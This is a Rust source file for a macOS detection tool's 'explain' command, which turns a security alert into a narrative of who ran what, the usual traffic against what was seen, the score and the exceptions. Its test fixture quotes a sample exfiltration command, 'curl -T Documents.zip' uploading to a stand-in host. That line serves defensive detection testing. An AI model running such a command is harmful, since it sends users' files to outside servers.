//! `tidemark explain`: an alert as a story.

mod scene;
mod score;

use std::io::{self, Write};

use super::Failure;
use super::alerts::Lookup;
use super::inputs::Setup;
use super::printable::printable;
use crate::alert::{Activity, Alert, Closed};
use crate::detect::Severity;
use crate::exceptions::Action;
use anstyle::{AnsiColor, Style};
use scene::{tree, what};
use score::{silence, usual, why};

/// Tells what an alert says: who ran what, what was usual, what was seen, why it is scored so, and what would silence it.
///
/// ALERT is a file with one or more alerts, `-` for standard input, or the id of an event (its beginning will do) or a finding, which is looked up
/// in what this Mac keeps. Every form is read, on any machine: native, OCSF, ECS, slim, and wrapped as a SIEM's search returns it.
///
/// Examples:
///   tidemark replay recording.ndjson | tidemark explain -
///   tidemark explain hit-from-the-siem.json
///   tidemark explain tmk1:6a5f56425cdc5d41f29875d41cb916bc --alerts /var/log/tidemark/alerts.ndjson
#[derive(Debug, clap::Args)]
#[command(verbatim_doc_comment)]
pub(super) struct Args {
    /// File, `-`, or id.
    alert: String,
    #[command(flatten)]
    lookup: Lookup,
    #[command(flatten)]
    setup: Setup,
}

pub(super) fn run(args: &Args) -> Result<(), Failure> {
    let config = args.setup.config()?;
    let found = args.lookup.find(&args.alert, &config)?;
    let mut out = anstream::stdout().lock();
    for (at, alert) in found.iter().enumerate() {
        if at > 0 {
            writeln!(out, "\n{}\n", "─".repeat(72))?;
        }
        tell(alert, &mut out)?;
    }
    out.flush()?;
    Ok(())
}

const BOLD: Style = Style::new().bold();
const DIM: Style = Style::new().dimmed();

/// Writes the story of an alert.
fn tell(alert: &Alert, out: &mut impl Write) -> io::Result<()> {
    let colour = severity_style(alert.severity);
    writeln!(out, "{colour}{}{colour:#}  {BOLD}{}{BOLD:#}", alert.severity, printable(&alert.summary))?;
    writeln!(out, "{DIM}{}  event {}  {}{DIM:#}", alert.time, printable(&alert.id), alert.finding.as_str())?;
    let host = &alert.host;
    let version = host.os_version.as_deref().map(|v| format!(", macOS {v}")).unwrap_or_default();
    let serial = host.serial_number.as_deref().map(|s| format!(", serial {s}")).unwrap_or_default();
    writeln!(out, "{DIM}on {}{DIM:#}", printable(&format!("{}{version}{serial}", host.name)))?;
    if let Some(line) = stage(alert) {
        writeln!(out, "{line}")?;
    }
    heading(out, "Who")?;
    tree(alert, out)?;
    heading(out, "What")?;
    what(alert, out)?;
    heading(out, "What was usual, and what was seen")?;
    for channel in &alert.channels {
        usual(channel, out)?;
    }
    heading(out, "Why this score")?;
    why(alert, out)?;
    heading(out, "What would silence it")?;
    silence(alert, out)?;
    heading(out, "Next")?;
    writeln!(out, "  {}", printable(&alert.runbook))
}

fn heading(out: &mut impl Write, text: &str) -> io::Result<()> {
    writeln!(out, "\n{BOLD}{text}{BOLD:#}")
}

fn severity_style(severity: Severity) -> Style {
    let colour = match severity {
        Severity::Info => AnsiColor::Cyan,
        Severity::Low => AnsiColor::Blue,
        Severity::Medium => AnsiColor::Yellow,
        Severity::High => AnsiColor::Red,
        Severity::Critical => AnsiColor::Magenta,
    };
    Style::new().bold().fg_color(Some(colour.into()))
}

fn stage(alert: &Alert) -> Option<String> {
    let stage = &alert.stage;
    let what = match (stage.activity, stage.closed) {
        (Activity::Create, _) => {
            return alert.exception.as_ref().map(|exception| {
                let what = match exception.action {
                    Action::Suppress => "suppressed",
                    Action::Lower => "lowered",
                };
                format!(
                    "{what} by the exception {} of {}",
                    printable(&exception.id),
                    printable(&exception.owner)
                )
            });
        }
        (Activity::Update, _) => "goes on",
        (Activity::Close, Some(Closed::Learned)) => "closed: it was learnt as normal",
        (Activity::Close, Some(Closed::Excepted)) => "closed: an exception covers it",
        (Activity::Close, _) => "closed: it was not seen again",
    };
    Some(format!("{what}; found {} times since {}", stage.count, stage.first_time))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::alert::{Format, samples};
    use crate::cli::printable::is_bidirectional;

    fn story(alert: &Alert) -> String {
        let mut out = Vec::new();
        tell(alert, &mut out).unwrap();
        anstream::adapter::strip_str(&String::from_utf8(out).unwrap()).to_string()
    }

    #[test]
    fn the_story_says_who_what_usual_seen_why_and_what_next() {
        let told = story(&samples::plain());
        for part in [
            "curl -T Documents.zip https://files.example.net/in/",
            "◀ initiator",
            "◀ this",
            "by alice, uid 501",
            "tls over tcp to files.example.net 198.51.100.23:443: 23.4 MB out, 5.12 kB in",
            "23.4 MB seen; median 3.21 kB, 99 % stay below 120 kB, 195 times the 99 % point",
            "run by apple:com.apple.Automator",
            "score 2.59",
            "had the initiator been seen before",
            "exceptions suggest",
            "docs/runbooks/volume.md",
        ] {
            assert!(told.contains(part), "{part}\n{told}");
        }
    }

    #[test]
    fn every_form_tells_the_same_story() {
        let alert = samples::plain();
        let told = story(&alert);
        for format in [Format::Native, Format::Ocsf, Format::Ecs] {
            assert_eq!(story(&Alert::read(&alert.render(format)).unwrap()), told);
        }
    }

    proptest! {
        #[test]
        fn no_alert_can_steer_the_terminal(alert in samples::any_alert()) {
            let mut out = Vec::new();
            tell(&alert, &mut out).unwrap();
            let plain = anstream::adapter::strip_str(&String::from_utf8(out).unwrap()).to_string();
            prop_assert!(plain.chars().all(|c| c == '\n' || !(c.is_control() || is_bidirectional(c))));
            let _ = story(&Alert::read(&alert.render_slim(Format::Ocsf)).unwrap());
        }
    }
}
